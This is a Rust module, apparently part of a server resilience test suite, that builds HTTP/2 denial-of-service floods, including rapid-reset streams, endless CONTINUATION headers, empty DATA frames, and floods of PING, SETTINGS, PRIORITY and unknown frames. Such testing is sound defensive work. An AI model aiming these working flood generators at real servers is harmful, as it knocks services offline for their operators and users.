//! What clients of HTTP/2 send who want to do harm.

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, frame, get, post, request,
    settings, window_update,
};

/// Frames that go on for as long as anybody listens.
pub struct Flood {
    pub what: &'static str,
    /// What comes once, before the flood.
    pub first: Vec<u8>,
    pub next: Box<dyn FnMut() -> Vec<u8> + Send>,
    /// It is we who count it, and not the library.
    pub is_ours: bool,
}

/// Each of them, anew.
pub fn floods() -> Vec<Flood> {
    let again = |bytes: Vec<u8>| -> Box<dyn FnMut() -> Vec<u8> + Send> { Box::new(move || bytes.repeat(200)) };
    let open_head = frame(HEADERS, END_STREAM, 1, &get("/api/health/", &[]));
    let field = [&[0, 1, b'x', 100][..], &[b'x'; 100]].concat();
    let open_body = frame(HEADERS, END_HEADERS, 1, &post("/api/auth/login/"));
    let flood = |what, first: &[u8], next, is_ours| Flood { what, first: first.to_vec(), next, is_ours };
    vec![
        flood("streams taken back (rapid reset)", &[], Box::new(resets(100, &[])), false),
        // Each after the service had time to begin it.
        flood("streams taken back one by one", &[], Box::new(resets(1, &frame(PING, 0, 0, &[0; 8]))), false),
        flood("a head without an end", &open_head, again(frame(CONTINUATION, 0, 1, &field)), false),
        flood("an empty head without an end", &open_head, again(frame(CONTINUATION, 0, 1, &[])), false),
        flood("data without data", &open_body, again(frame(DATA, 0, 1, &[])), false),
        flood("pings", &[], again(frame(PING, 0, 0, &[0; 8])), true),
        flood("settings", &[], again(settings(&[])), true),
        flood("priorities", &[], again(frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 1])), true),
        flood("windows", &[], again(window_update(0, 1)), false),
        flood("frames of no known kind", &[], again(frame(0xbe, 0, 0, &[])), true),
    ]
}

/// Requests that are taken back at once, so many in one breath, with this in between.
fn resets(many: u32, between: &[u8]) -> impl FnMut() -> Vec<u8> + Send + use<> {
    let (mut stream, between) = (1, between.to_vec());
    move || {
        let mut bytes = Vec::new();
        for _ in 0..many {
            bytes.extend(request(stream, "/api/health/", &[]));
            bytes.extend(&between);
            bytes.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
            stream += 2;
        }
        bytes
    }
}
